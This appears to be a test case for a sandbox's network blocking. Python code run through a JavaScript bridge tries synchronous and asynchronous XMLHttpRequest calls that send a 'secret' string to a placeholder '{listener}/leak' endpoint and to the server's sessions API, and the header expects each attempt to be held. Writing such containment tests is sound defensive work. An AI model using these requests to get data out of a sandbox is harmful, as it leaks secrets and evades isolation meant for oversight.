# outcome: ok
# blocked: 127.0.0.1
# with: door
# prints: held: XHR sync: JsException
# prints: held: XHR async: by event
# prints: held: XHR sync to the server: JsException
def sync(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status
def asynchronous():
    request = js.XMLHttpRequest.new()
    request.open("POST", "http://{listener}/leak", True)
    request.send("secret")
    return request
await door("XHR sync", lambda: sync("http://{listener}/leak"))
await door("XHR sync to the server", lambda: sync("http://{server}/api/sessions?leak"))
await event("XHR async", asynchronous, "load", "error")
